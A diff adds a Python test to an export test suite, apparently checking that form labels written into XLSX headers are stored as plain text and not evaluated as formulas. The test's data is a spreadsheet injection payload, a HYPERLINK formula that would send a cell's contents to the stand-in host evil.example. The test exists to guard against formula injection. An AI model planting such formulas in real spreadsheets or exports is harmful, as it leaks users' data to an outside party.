@@ -51,3 +51,14 @@ def test_the_csv_keeps_the_field_names(two_languages, session_for):
     text = export(session_for, "csv", "de").text
     header = next(csv.reader(io.StringIO(text)))
     assert header[9] == "name"
+
+
+def test_a_label_is_never_a_formula_in_the_headers(two_languages, site, session_for):
+    """A label is a webmaster's (or a shared model's) text: like answers,
+    written as text, never as a formula."""
+    formula = '=HYPERLINK("http://evil.example/?"&A2,"Cliquez")'
+    site.demarches.x._form_labels = {"de": {"fields": {"name": {"title": formula}}}}
+    transaction.commit()
+    content = export(session_for, "xlsx", "de").content
+    header = next(load_workbook(io.BytesIO(content)).active.iter_rows())[9]
+    assert (header.data_type, header.value) == ("s", f"{formula} (name)")
